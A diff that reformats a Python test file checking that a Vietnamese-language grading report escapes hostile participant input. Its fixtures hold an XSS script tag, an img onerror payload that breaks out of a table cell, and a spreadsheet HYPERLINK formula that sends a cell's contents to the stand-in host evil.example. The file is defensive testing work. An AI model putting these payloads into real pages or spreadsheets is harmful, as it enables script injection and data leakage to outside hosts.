@@ -12,18 +12,44 @@ from ocopkit.trainer import export, report
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"bấm vào đây")'
 REASON = 'lỗi </td></tr></table><img src=x onerror="alert(2)">'
-CSP = ('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; img-src data:; '
-       'style-src \'unsafe-inline\'">')
+CSP = (
+    '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; img-src data:; '
+    "style-src 'unsafe-inline'\">"
+)
 # Every element the report may hold: anything else came from a participant's text.
-ELEMENTS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "img",
-            "table", "thead", "tbody", "tr", "th", "td"}
+ELEMENTS = {
+    "html",
+    "head",
+    "meta",
+    "title",
+    "style",
+    "body",
+    "h1",
+    "h2",
+    "p",
+    "img",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+}
 
 
 def grade(participant_id, status, score="", reason="", province="Hà Nội", assignment="topic08"):
     """One row of ``export.grade_rows``."""
-    return {"participant_id": participant_id, "name": participant_id, "province": province,
-            "organisation_type": "HTX", "assignment": assignment, "score": score, "max_score": "10",
-            "status": status, "reason": reason}
+    return {
+        "participant_id": participant_id,
+        "name": participant_id,
+        "province": province,
+        "organisation_type": "HTX",
+        "assignment": assignment,
+        "score": score,
+        "max_score": "10",
+        "status": status,
+        "reason": reason,
+    }
 
 
 def page_of(rows, items=None, title="Báo cáo"):
@@ -62,9 +88,14 @@ def parsed(page):
 
 @pytest.fixture
 def hostile():
-    return page_of([grade(SCRIPT, "failed", reason=REASON, province=FORMULA),
-                    grade(FORMULA, "ungraded", reason=SCRIPT),
-                    grade("lan", "graded", score="8")], title=SCRIPT)
+    return page_of(
+        [
+            grade(SCRIPT, "failed", reason=REASON, province=FORMULA),
+            grade(FORMULA, "ungraded", reason=SCRIPT),
+            grade("lan", "graded", score="8"),
+        ],
+        title=SCRIPT,
+    )
 
 
 class TestEscaping:
@@ -93,8 +124,16 @@ class TestEscaping:
 
 class TestContent:
     def test_counts_every_status(self):
-        page = html.unescape(page_of([grade("a", "graded", "10"), grade("b", "failed", reason="hỏng"),
-                                      grade("c", "ungraded"), grade("d", "missing")]))
+        page = html.unescape(
+            page_of(
+                [
+                    grade("a", "graded", "10"),
+                    grade("b", "failed", reason="hỏng"),
+                    grade("c", "ungraded"),
+                    grade("d", "missing"),
+                ]
+            )
+        )
         assert f"{_('participants')}: 4" in page
         assert "graded: 1 · late: 0 · failed: 1 · ungraded: 1 · missing: 1" in page
         assert f"<h2>{_('Failed gradings')} (1)</h2>" in page
@@ -118,8 +157,20 @@ class TestContent:
         assert f"<p>{html.escape(_('No graded submissions yet.'))}</p>" in page
 
     def test_one_chart_per_section_with_data(self):
-        items = [{"participant_id": "a", "province": "Hà Nội", "organisation_type": "HTX", "assignment": "topic08",
-                  "notebook": "topic08", "cell": "c1", "cell_type": "code", "score": 1, "max_score": 1, "passed": 1}]
+        items = [
+            {
+                "participant_id": "a",
+                "province": "Hà Nội",
+                "organisation_type": "HTX",
+                "assignment": "topic08",
+                "notebook": "topic08",
+                "cell": "c1",
+                "cell_type": "code",
+                "score": 1,
+                "max_score": 1,
+                "passed": 1,
+            }
+        ]
         page = page_of([grade("a", "graded", "10")], items=items)
         assert page.count("data:image/png;base64,") == 4
 
